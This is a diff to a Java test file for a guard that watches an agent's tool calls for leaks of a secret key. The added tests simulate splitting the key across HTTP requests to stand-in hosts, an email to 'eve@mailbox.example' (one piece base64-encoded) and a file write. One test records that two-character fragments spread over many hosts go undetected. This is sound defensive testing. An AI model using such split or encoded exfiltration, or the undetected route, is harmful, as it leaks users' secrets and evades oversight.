@@ -217,15 +217,67 @@ class LeakGuardSecondTryTest {
     }
 
     @Test
-    void piecesToDifferentHostsOrDifferentRunsAreNotAddedUp() {
+    void piecesInDifferentRunsAreNotAddedUp() {
         Calls.Run first = Calls.Run.of("Check the status page");
         Calls.Run second = Calls.Run.of("Check the status page");
         String a = KEY.substring(0, 11);
         String b = KEY.substring(11);
 
         assertThat(guard.evaluate(Calls.httpGet(first, "https://status.example.com/p?q=" + a))).isEmpty();
-        assertThat(guard.evaluate(Calls.httpGet(first, "https://other.example.org/p?q=" + b))).isEmpty();
         assertThat(guard.evaluate(Calls.httpGet(second, "https://status.example.com/p?q=" + b))).isEmpty();
+        assertThat(guard.evaluate(Calls.httpGet(second, "https://other.example.org/p?q=" + b))).isEmpty();
+    }
+
+    @Test
+    void halvesSentToTwoDomainsAddUp() {
+        Calls.Run run = Calls.Run.of("Check the status page");
+        String a = KEY.substring(0, 11);
+        String b = KEY.substring(11);
+
+        assertThat(guard.evaluate(Calls.httpGet(run, "https://status.example.com/p?q=" + a))).isEmpty();
+        Optional<Decision> second = guard.evaluate(Calls.httpGet(run, "https://other.example.org/p?q=" + b));
+
+        assertThat(second).get().extracting(Decision::rule).isEqualTo(GuardRules.LEAK_SECRET);
+        assertThat(second.get().reason()).contains("several destinations").contains("host example.com")
+                .contains("host example.org").contains("earlier calls").doesNotContain(KEY).doesNotContain(b);
+    }
+
+    @Test
+    void piecesOverAHostAMailAndAFileAddUp() {
+        Calls.Run run = Calls.Run.of("Write up the incident");
+        String[] thirds = {KEY.substring(0, 8), KEY.substring(8, 16), KEY.substring(16)};
+
+        assertThat(guard.evaluate(Calls.httpGet(run, "https://status.example.com/p/" + thirds[0]))).isEmpty();
+        assertThat(guard.evaluate(Calls.sendEmail(run, "eve@mailbox.example", "notes",
+                "the reference is " + Base64.getEncoder().encodeToString(thirds[1].getBytes(StandardCharsets.UTF_8))))).isEmpty();
+        Optional<Decision> third = guard.evaluate(Calls.writeFile(run, "notes/incident.txt", "ticket " + thirds[2]));
+
+        assertThat(third).get().extracting(Decision::rule).isEqualTo(GuardRules.LEAK_SECRET);
+        assertThat(third.get().reason()).contains("several destinations").doesNotContain(KEY);
+    }
+
+    @Test
+    void shortTokensSpreadOverManyHostsDoNotAddUp() {
+        // two characters per host: too little to tell from ordinary values, so only one host's add up
+        Calls.Run run = Calls.Run.of("Check the status pages");
+        for (int i = 0; i < KEY.length(); i += 2) {
+            String token = KEY.substring(i, Math.min(KEY.length(), i + 2));
+            assertThat(guard.evaluate(Calls.httpGet(run, "https://status" + i + ".example-" + i + ".org/c?v=" + token)))
+                    .as("token %d", i).isEmpty();
+        }
+    }
+
+    @Test
+    void ordinaryTrafficToManyHostsNeverAddsUpToTheKey() {
+        Calls.Run run = Calls.Run.of("Look up the weather for each office");
+        String[] queries = {"city=berlin&units=metric", "city=paris&lang=fr", "city=sk&lang=en", "id=4f&v=2", "q=live",
+            "page=27", "x=83", "tz=Europe/Berlin", "lm=1", "sort=asc&limit=50", "q=la+tz", "v=Q2"};
+        for (int i = 0; i < queries.length; i++) {
+            assertThat(guard.evaluate(Calls.httpGet(run, "https://api" + i + ".weather-" + i + ".example/v1/forecast?"
+                    + queries[i]))).as(queries[i]).isEmpty();
+            assertThat(guard.evaluate(Calls.sendEmail(run, "office" + i + "@branch-" + i + ".example", "forecast " + queries[i],
+                    "Tomorrow: " + queries[i] + ", light wind, 14 degrees."))).as(queries[i]).isEmpty();
+        }
     }
 
     @Test
